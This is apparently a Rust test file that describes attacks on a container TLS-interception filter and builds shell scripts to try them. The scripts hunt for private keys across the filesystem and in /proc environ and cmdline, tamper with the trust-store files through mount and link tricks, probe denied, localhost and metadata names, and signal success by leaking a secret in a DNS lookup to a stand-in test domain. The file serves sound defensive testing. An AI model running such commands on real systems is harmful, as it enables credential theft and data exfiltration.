//! The authority in whose name TLS is intercepted: its key, whom it vouches for and to whom, and who
//! vouches for a server behind it.
//!
//! Where an attack succeeds in something that isn't seen from outside, it asks for an allowed name with
//! the secret in it, which the policy lets out.

use test_support::hosts::{ATTACKER, WILD};

use crate::old_tls;
use crate::pairing::Family;
use crate::row::{ROW, Row, Trace};
use crate::scene::Scene;

pub(crate) const ROWS: &[Row] = &[
    Row {
        name: "authority_key_within_the_container",
        attack: "the key of the container's authority, looked for in every file, command line and environment there",
        defence: "the filter makes the key and never writes it anywhere; the container gets the certificate alone",
        script: key,
        // Every file of the image is read.
        seconds: 180,
        ..ROW
    },
    Row {
        name: "authority_of_another_container",
        attack: "a server that another container's authority vouches for, shown to a client that trusts only that",
        defence: "each container has an authority of its own, which no other trusts",
        script: of_another,
        recorded: Some(Trace::Denied),
        ..ROW
    },
    Row {
        name: "authority_files_poisoned",
        attack: "another authority, written, renamed, linked or mounted into the files by which the container trusts its own",
        defence: "the files are mounted read-only from where the container has no rights",
        script: poisoned,
        ..ROW
    },
    Row {
        name: "authority_for_a_server_that_nobody_vouches_for",
        attack: "clients that ask no questions, and servers that are expired, early, another or vouched for by themselves",
        defence: "the filter verifies servers by the host's roots, whatever the container trusts, before any request goes out",
        script: unverified,
        recorded: Some(Trace::Secret),
        ..ROW
    },
    Row {
        name: "authority_as_an_oracle",
        attack: "TLS to denied names, addresses, localhost, the gateway's own address and names that lead inside: a certificate for any of them",
        defence: "a certificate is made only for a name that the policy allows and whose server was verified under it",
        script: oracle,
        recorded: Some(Trace::Denied),
        ..ROW
    },
    Row {
        name: "authority_hides_an_old_version",
        attack: "a server that speaks TLS 1.0 and 1.1 alone, asked by clients that would take that, too",
        defence: "both sides speak TLS 1.2 or 1.3, whatever the client offers",
        script: old_versions,
        recorded: Some(Trace::Secret),
        ..ROW
    },
];

/// Tells the judge.
fn tell(scene: &Scene<'_>) -> String {
    format!("nslookup {}.wild.test >/dev/null", scene.secret)
}

/// `curl` in the attempt's family, without questions.
fn curl(scene: &Scene<'_>) -> &'static str {
    match scene.circumstances.family {
        Family::V4 => "curl -4 -kgsS -m 5",
        Family::V6 => "curl -6 -kgsS -m 5",
    }
}

/// A key begins so as PEM, and in DER (PKCS#8, P-256) has these bytes before its number. Without the
/// filter there is one in each kind of place, and each has to be found.
fn key(scene: &Scene<'_>) -> String {
    let plant = "printf -- '-----BEGIN PRIVATE KEY-----\\n' >/tmp/pem; printf '\\060\\007*\\206H\\316=\\003\\001\\007\\004m0k\\002\\001\\001\\004\\040' >/tmp/der
        env \"$(printf -- 'K=x\\n-----BEGIN EC PRIVATE KEY-----')\" sleep 170 &
        sh -c 'sleep 170; :' \"$(printf -- '-----BEGIN PRIVATE KEY-----')\" &
        sleep 1";
    let (plant, enough) = match scene.filtered {
        false => (plant, 4),
        true => ("", 1),
    };
    format!(
        "export LC_ALL=C; pem='^-----BEGIN .*PRIVATE KEY'; der=$(printf '\\003\\001\\007\\004m0k\\002\\001\\001\\004\\040')
        {plant}
        search() {{
            find / \\( -path /proc -o -path /sys \\) -prune -o -type f -exec grep -l -e \"$pem\" -e \"$der\" {{}} +
            for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
                ! tr '\\0' '\\n' <$file | grep -q -e \"$pem\" || echo $file
            done
        }}
        found=$(search 2>/dev/null); echo \"$found\"
        [ $(echo \"$found\" | grep -c /) -lt {enough} ] || {}",
        tell(scene)
    )
}

/// Without the filter there is one authority for everybody.
fn of_another(scene: &Scene<'_>) -> String {
    format!(
        "cat >/tmp/other.pem <<'END'\n{}END\n{} --no-insecure --cacert /tmp/other.pem https://read.wild.test/{}; :",
        scene.authority_of_another(),
        curl(scene),
        scene.secret
    )
}

/// Without the filter there are files that the container may write.
fn poisoned(scene: &Scene<'_>) -> String {
    let (files, begin) = match scene.filtered {
        true => ("/dev/boundary", "ls /dev/boundary/roots.pem"),
        false => (
            "/tmp/files",
            "mkdir /tmp/files && touch /tmp/files/roots.pem",
        ),
    };
    format!(
        "{begin} || exit; cd /tmp; echo poison >/tmp/other
        for file in {files}/roots.pem {files}/authority.pem; do
            echo poison >>$file; cp /tmp/other $file; mv -f /tmp/other $file; ln -f /tmp/other $file; ln -sfn /tmp/other $file
            mount -o remount,rw $file; mount -o remount,bind,rw {files}; umount $file; umount {files}; echo poison >>$file
            mount -o bind /tmp/other $file; unshare -m sh -c \"umount $file; echo poison >>$file\"
            mv {files} /tmp/away; rm -rf {files}; mkdir -p {files} && echo poison >>$file
        done 2>/dev/null
        ! grep -q poison {files}/* || {}",
        tell(scene)
    )
}

fn unverified(scene: &Scene<'_>) -> String {
    let asks = ["self-signed", "expired", "early", "other"].map(|fault| {
        format!(
            "{} https://{fault}.wrong.wild.test/{}",
            curl(scene),
            scene.secret
        )
    });
    format!("{}; :", asks.join("\n"))
}

/// A handshake that comes to its end is a certificate that was given.
fn oracle(scene: &Scene<'_>) -> String {
    let (wild, attacker) = match scene.circumstances.family {
        Family::V4 => (WILD.v4.to_string(), ATTACKER.v4.to_string()),
        Family::V6 => (format!("[{}]", WILD.v6), format!("[{}]", ATTACKER.v6)),
    };
    let asks = [
        ("attacker.test", wild.as_str()),
        ("attacker.test", &attacker),
        ("denied.test", &wild),
        ("localhost", &wild),
        ("read.wild.test.attacker.test", &wild),
        ("attacker.test", "192.0.0.8"),
        ("attacker.test", "[100::8]"),
        ("metadata.rebind.test", &wild),
        ("loopback.rebind.test", &wild),
        (&wild, &wild),
        (&attacker, &attacker),
    ]
    .map(|(name, address)| {
        let resolve = match name == address {
            true => String::new(),
            false => format!("--resolve {name}:443:{address}"),
        };
        format!(
            "! {} -v {resolve} https://{name}/{} 2>&1 | grep 'SSL connection using' || {{ echo {name} {address}; {}; }}",
            curl(scene),
            scene.secret,
            tell(scene)
        )
    });
    format!("{}; :", asks.join("\n"))
}

fn old_versions(scene: &Scene<'_>) -> String {
    let weak = "--tlsv1.0 --ciphers DEFAULT@SECLEVEL=0";
    let asks = [format!("{weak} --tls-max 1.1"), weak.to_owned()].map(|how| {
        format!(
            "{} {how} https://old.wild.test:{}/{}",
            curl(scene),
            old_tls::PORT,
            scene.secret
        )
    });
    format!("{}; :", asks.join("\n"))
}
